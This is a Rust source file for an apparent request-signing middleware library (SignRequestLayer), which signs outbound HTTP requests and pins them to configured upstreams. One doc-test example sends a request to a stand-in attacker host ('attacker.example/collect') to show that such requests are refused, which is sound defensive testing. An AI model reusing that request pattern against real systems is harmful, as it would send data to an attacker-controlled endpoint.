//! [`SignRequestLayer`]: buffer, sign, and send the exact signed bytes (client side).

use std::fmt;
use std::sync::Arc;
use std::task::{Context, Poll};

use bytes::Bytes;
use http::Request;
use http_body::Body;
use tollgate_core::body::check_content_length;
use tollgate_core::upstream::{self, TargetError, Upstream};
use tollgate_core::{BoxError, BufferedBody, Clock, Key, KeyRing, KeyRingHandle};
use tower_layer::Layer;
use tower_service::Service;

use crate::config::{Common, common_setters};
use crate::future::SignRequestFuture;
use crate::scheme::{ConfigError, RequestParts, Scheme, SignError};

/// The configuration of [`SignRequestLayer`], shared by its services.
#[derive(Clone)]
pub(crate) struct SignConfig {
    pub(crate) common: Common,
    keys: SignKeys,
    /// Never empty: [`SignRequestLayer::new`] takes the first one.
    upstreams: Vec<Upstream>,
    /// The messages signed lately (shared by the layer's clones): see [`Recent`].
    recent: Arc<Recent>,
}

/// The messages (method, URI, body) a signer signed for times not yet past, with the last
/// time each was signed at, so that it never makes one signature twice: two calls of one
/// message in one second would carry the same timestamped signature, and a verifier's replay
/// guard would refuse the second. The second is signed one second after the last instead,
/// within half the scheme's tolerance ahead of the clock ([`Scheme::timestamp_tolerance`];
/// never ahead, and nothing remembered, for a scheme that does not say). Messages are told
/// apart by a keyed hash; at most [`Recent::KEPT`] are remembered (a new one is not, past it).
/// Only the choice of the time is made under the lock; signing is not.
#[derive(Default)]
struct Recent {
    hasher: std::collections::hash_map::RandomState,
    made: std::sync::Mutex<RecentState>,
}

#[derive(Default)]
struct RecentState {
    /// Hash of the message → the last time it was signed at.
    made: std::collections::HashMap<u64, u64>,
    /// The clock's second of the last sweep of entries outside the signable range.
    swept: u64,
}

impl Recent {
    const KEPT: usize = 1 << 16;

    /// The time to sign this message at: `now`, or one second after the last time it was
    /// signed at, at most `ahead` seconds after `now`; remembered.
    fn reserve(
        &self,
        method: &http::Method,
        uri: &http::Uri,
        body: &[u8],
        now: u64,
        ahead: u64,
    ) -> u64 {
        use std::hash::BuildHasher as _;
        // The URI's parts as they are, without formatting it into a new string.
        let message = self.hasher.hash_one((
            method.as_str(),
            uri.scheme_str(),
            uri.authority().map(http::uri::Authority::as_str),
            uri.path_and_query().map(http::uri::PathAndQuery::as_str),
            body,
        ));
        let mut state = self
            .made
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        if now != state.swept {
            // Only times from now on matter (a time already past cannot be signed again at
            // `now` or later); after the clock stepped back, times beyond the range go too.
            let last_signable = now.saturating_add(ahead);
            state
                .made
                .retain(|_, at| (now..=last_signable).contains(at));
            state.swept = now;
        }
        let at = match state.made.get(&message) {
            Some(&last) => last.saturating_add(1).clamp(now, now.saturating_add(ahead)),
            None => now,
        };
        if state.made.len() < Self::KEPT || state.made.contains_key(&message) {
            state.made.insert(message, at);
        }
        at
    }
}

impl SignConfig {
    /// What `call` checks before anything is read: the target is a configured upstream, the
    /// signing key is usable now, and the declared `Content-Length` fits the limit. The time
    /// to sign at and, for a [`KeyRingHandle`], the one version of the ring this request
    /// signs with (loaded here, once); or the refusal.
    fn admit<B>(&self, request: &Request<B>) -> Result<(u64, Option<Arc<KeyRing>>), SignError> {
        // Pinned first: nothing is read, looked up or signed for a refused request, and the
        // inner service (the client that would connect) is never called.
        upstream::check(&self.upstreams, request.uri(), request.headers()).map_err(|error| {
            let error = refused(error, request.uri());
            tracing::warn!(target: "tollgate", %error, "request not signed; not sent");
            error
        })?;
        let now = self.common.clock.now_unix();
        let loaded = match &self.keys {
            SignKeys::Fixed(_) => None,
            SignKeys::Live(handle) => Some(handle.load_full()),
        };
        self.signing_key(now, loaded.as_deref())?;
        check_content_length(request.headers(), self.common.limit).map_err(SignError::Body)?;
        Ok((now, loaded))
    }

    /// The signing key of the request's ring (`loaded` for a handle, else the fixed ring), if
    /// it is usable at `now`.
    fn signing_key<'a>(
        &'a self,
        now: u64,
        loaded: Option<&'a KeyRing>,
    ) -> Result<&'a Key, SignError> {
        let ring = match (&self.keys, loaded) {
            (_, Some(ring)) | (SignKeys::Fixed(ring), None) => ring,
            // Not reachable (`admit` loads a handle's ring); fail closed.
            (SignKeys::Live(_), None) => return Err(SignError::InvalidKey),
        };
        ring.signing_key_at(now)
            .ok_or_else(|| SignError::KeyExpired {
                key_id: ring.signing_key().shared_id(),
            })
    }

    /// The request to send: the scheme's headers added (replacing any value already there),
    /// over exactly the signed bytes.
    pub(crate) fn sign(
        &self,
        mut parts: http::request::Parts,
        bytes: Bytes,
        now: u64,
        loaded: Option<&KeyRing>,
    ) -> Result<Request<BufferedBody>, SignError> {
        let key = self.signing_key(now, loaded)?;
        // How far ahead a repeat may be signed: half the scheme's tolerance, so a verifier
        // whose clock is behind by as much still accepts it. A scheme that does not say (or
        // signs no time) is never signed ahead, and nothing is remembered for it.
        let ahead = self.common.scheme.timestamp_tolerance().unwrap_or(0) / 2;
        let at = if ahead == 0 {
            now
        } else {
            self.recent
                .reserve(&parts.method, &parts.uri, &bytes, now, ahead)
        };
        // Signed once, outside the lock.
        let headers = self.common.scheme.sign(
            key.secret(),
            &RequestParts::new(&parts.method, &parts.uri, &parts.headers, &bytes),
            at,
        )?;
        for (name, value) in headers {
            parts.headers.insert(name, value);
        }
        tracing::trace!(target: "tollgate", key_id = key.id(), "request signed");
        Ok(Request::from_parts(parts, BufferedBody::new(bytes)))
    }
}

/// The ring a signer uses: fixed when the layer was built, or a [`KeyRingHandle`] loaded
/// once per request in `call`.
#[derive(Clone)]
enum SignKeys {
    Fixed(KeyRing),
    Live(KeyRingHandle),
}

impl fmt::Debug for SignKeys {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Fixed(ring) => ring.fmt(f),
            Self::Live(handle) => handle.fmt(f),
        }
    }
}

/// The typed error for a request [`upstream::check`] refused.
fn refused(error: TargetError, uri: &http::Uri) -> SignError {
    match error {
        TargetError::Ambiguous { reason } => SignError::AmbiguousTarget { reason },
        TargetError::NotAllowed { target } => SignError::UpstreamNotAllowed { target },
        TargetError::OutsideBasePath { target } => SignError::UpstreamNotAllowed {
            target: format!("{target} (outside the configured base path)"),
        },
        // Not reachable (the layer always has an upstream); fail closed if it grows.
        _ => SignError::UpstreamNotAllowed {
            target: upstream::describe_target(uri),
        },
    }
}

impl fmt::Debug for SignConfig {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut out = f.debug_struct("SignRequestLayer");
        out.field("ring", &self.keys)
            .field("upstreams", &self.upstreams);
        self.common.debug_fields(&mut out);
        out.finish()
    }
}

/// Signs every outbound request with the ring's signing key, for `hyper_util` clients (or
/// any service taking `Request<BufferedBody>`).
///
/// For each request the layer reads the [`Clock`], refuses to sign with an expired signing
/// key, reads the body into one `Bytes` (default limit
/// [`DEFAULT_BODY_LIMIT`](tollgate_core::DEFAULT_BODY_LIMIT), 1 MiB; a larger declared
/// `Content-Length` is refused before a byte is read), adds the scheme's headers (signature
/// marked sensitive; timestamp where the scheme has one, replacing any value already there),
/// and sends a [`BufferedBody`] over exactly the signed bytes (with an exact
/// `Content-Length`).
///
/// **No signature is made twice.** A timestamped scheme without a nonce (the canonical
/// layout, Stripe's) gives two calls of one message (method, path, body) in one second the
/// same signature, and a verifier's replay guard accepts only the first. The layer (and its
/// clones) remembers the messages it signed for times not yet past (a keyed hash of method,
/// URI and body, with the last time) and signs a repeat one second after the last, once, up
/// to half the scheme's tolerance ahead of its clock (150 s with the
/// default ±300 s; [`Scheme::timestamp_tolerance`]), so a verifier still accepts it; past
/// that a burst of one message repeats a signature. Schemes that sign no time are
/// unaffected. Separate layers (and processes) do not share this memory: give each message
/// its own bytes (a request id) when several signers may send the same one.
///
/// When it cannot sign, the call fails with a [`SignError`] inside the [`BoxError`] and
/// nothing is sent; errors of the inner service pass through unchanged. A ring whose signing
/// key is blank is refused when the layer is built ([`ConfigError::BlankSigningKey`]).
///
/// **Signatures are pinned to their upstreams.** A payload or canonical signature is a
/// credential for that exact request at the real provider (within the timestamp window, or
/// for ever for body-only schemes), so the layer is built with the [`Upstream`] it may sign
/// for (more with [`upstream`](SignRequestLayer::upstream)). In `call`, before the body is
/// read, the key looked up or anything signed, every request is checked with
/// [`tollgate_core::upstream::check`]: scheme, host and effective port must match, and a
/// `Host` header must be absent or agree with the URI. Otherwise the call fails with
/// [`SignError::UpstreamNotAllowed`] or [`SignError::AmbiguousTarget`] and the inner service
/// is never called, so nothing reaches the network. Put this layer *inside* (after) any
/// layer that follows redirects, so every hop is checked.
///
/// ```
/// use bytes::Bytes;
/// use http::Request;
/// use http_body_util::Full;
/// use hyper_util::client::legacy::Client;
/// use hyper_util::rt::TokioExecutor;
/// use tollgate_core::{BufferedBody, KeyRing, Secret, Upstream};
/// use tollgate_signature::{BodyHmac, SignError, SignRequestLayer};
/// use tower::{ServiceBuilder, ServiceExt};
///
/// # #[tokio::main(flavor = "current_thread")]
/// # async fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let client = Client::builder(TokioExecutor::new()).build_http::<BufferedBody>();
/// let ring = KeyRing::single(Secret::from_string("cashout_secret_key"));
/// let client = ServiceBuilder::new()
///     .layer(SignRequestLayer::new(
///         BodyHmac::onekey(),
///         ring,
///         Upstream::parse("https://api.onekey.example")?,
///     )?)
///     .service(client);
/// // `client.oneshot(Request::post("https://api.onekey.example/...").body(..)?)` sends
/// // `Payload-Signature: <hex>` over exactly those bytes.
///
/// // Anywhere else: refused before the body is read; no connection is opened.
/// let elsewhere = Request::post("https://attacker.example/collect")
///     .body(Full::new(Bytes::from_static(b"{}")))?;
/// let error = client.oneshot(elsewhere).await.unwrap_err();
/// assert!(matches!(
///     error.downcast_ref::<SignError>(),
///     Some(SignError::UpstreamNotAllowed { target }) if target == "https://attacker.example"
/// ));
/// # Ok(())
/// # }
/// ```
#[derive(Clone)]
#[must_use]
pub struct SignRequestLayer {
    config: Arc<SignConfig>,
}

impl SignRequestLayer {
    /// Signs with `scheme` and the signing key of `ring`, the system clock and a 1 MiB limit,
    /// requests to `upstream` only (the provider; a mock or a sandbox in tests). Allow more
    /// upstreams with [`upstream`](SignRequestLayer::upstream).
    ///
    /// `ring` is a [`KeyRing`] (or a [`Secret`](tollgate_core::Secret)), fixed for the
    /// layer's life, or a [`KeyRingHandle`] to rotate keys while the service runs: each
    /// request loads it once in `call` and is signed with that version's signing key.
    ///
    /// Fails with [`ConfigError::BlankSigningKey`] when the ring's signing key is blank
    /// (empty, all zero bytes or only whitespace): anyone could compute its signatures. An
    /// [`Upstream`] is parsed when the configuration is built
    /// ([`Upstream::parse`](tollgate_core::upstream::Upstream::parse) fails then), so nothing
    /// about the configuration fails per request.
    ///
    /// ```
    /// use tollgate_core::{Secret, Upstream};
    /// use tollgate_signature::{Canonical, ConfigError, SignRequestLayer};
    ///
    /// let layer = SignRequestLayer::new(
    ///     Canonical::new(),
    ///     Secret::from_string("api-secret"),
    ///     Upstream::parse("https://api.provider.example")?,
    /// )?
    /// // A local mock as well.
    /// .upstream(Upstream::parse("http://127.0.0.1:8080")?);
    /// assert_eq!(layer.upstreams().len(), 2);
    ///
    /// let blank = SignRequestLayer::new(
    ///     Canonical::new(),
    ///     Secret::from_string(" "),
    ///     Upstream::parse("https://api.provider.example")?,
    /// );
    /// assert!(matches!(blank, Err(ConfigError::BlankSigningKey { .. })));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn new(
        scheme: impl Scheme,
        ring: impl Into<KeyRingHandle>,
        upstream: Upstream,
    ) -> Result<Self, ConfigError> {
        let keys = match ring.into().into_unshared() {
            Ok(ring) => SignKeys::Fixed(Arc::unwrap_or_clone(ring)),
            Err(handle) => SignKeys::Live(handle),
        };
        {
            let current;
            let ring = match &keys {
                SignKeys::Fixed(ring) => ring,
                SignKeys::Live(handle) => {
                    current = handle.load_full();
                    &*current
                }
            };
            let signing = ring.signing_key();
            if signing.secret().is_blank() {
                return Err(ConfigError::BlankSigningKey {
                    key_id: signing.shared_id(),
                });
            }
        }
        Ok(Self {
            config: Arc::new(SignConfig {
                common: Common::new(scheme),
                keys,
                upstreams: vec![upstream],
                recent: Arc::default(),
            }),
        })
    }

    /// Also signs requests to `upstream`. Call it once per extra upstream; repeats are ignored.
    pub fn upstream(mut self, upstream: Upstream) -> Self {
        let config = Arc::make_mut(&mut self.config);
        if !config.upstreams.contains(&upstream) {
            config.upstreams.push(upstream);
        }
        self
    }

    /// The upstreams this layer signs for (never empty).
    pub fn upstreams(&self) -> &[Upstream] {
        &self.config.upstreams
    }

    common_setters!();
}

impl fmt::Debug for SignRequestLayer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.config.fmt(f)
    }
}

impl<S> Layer<S> for SignRequestLayer {
    type Service = SignRequest<S>;

    fn layer(&self, inner: S) -> Self::Service {
        SignRequest {
            inner,
            config: Arc::clone(&self.config),
        }
    }
}

/// The service of [`SignRequestLayer`].
#[derive(Clone, Debug)]
#[must_use]
pub struct SignRequest<S> {
    inner: S,
    config: Arc<SignConfig>,
}

impl<S> SignRequest<S> {
    /// Wraps `inner` with the configuration of `layer`.
    pub fn new(inner: S, layer: &SignRequestLayer) -> Self {
        layer.layer(inner)
    }

    /// The layer, to wrap services with (same as [`SignRequestLayer::new`]).
    pub fn layer(
        scheme: impl Scheme,
        ring: impl Into<KeyRingHandle>,
        upstream: Upstream,
    ) -> Result<SignRequestLayer, ConfigError> {
        SignRequestLayer::new(scheme, ring, upstream)
    }

    tollgate_core::__inner_service_accessors!();
}

impl<S, ReqBody> Service<Request<ReqBody>> for SignRequest<S>
where
    S: Service<Request<BufferedBody>> + Clone,
    S::Error: Into<BoxError>,
    ReqBody: Body,
    ReqBody::Error: Into<BoxError>,
{
    type Response = S::Response;
    type Error = BoxError;
    type Future = SignRequestFuture<S, ReqBody>;

    fn poll_ready(&mut self, cx: &mut Context<'_>) -> Poll<Result<(), Self::Error>> {
        self.inner.poll_ready(cx).map_err(Into::into)
    }

    fn call(&mut self, request: Request<ReqBody>) -> Self::Future {
        let (now, ring) = match self.config.admit(&request) {
            Ok(admitted) => admitted,
            Err(error) => return SignRequestFuture::refused(error, Arc::clone(&self.config)),
        };
        // The ready service goes into the future; a fresh clone stays here.
        let clone = self.inner.clone();
        let inner = std::mem::replace(&mut self.inner, clone);
        SignRequestFuture::reading(request, inner, now, ring, Arc::clone(&self.config))
    }
}
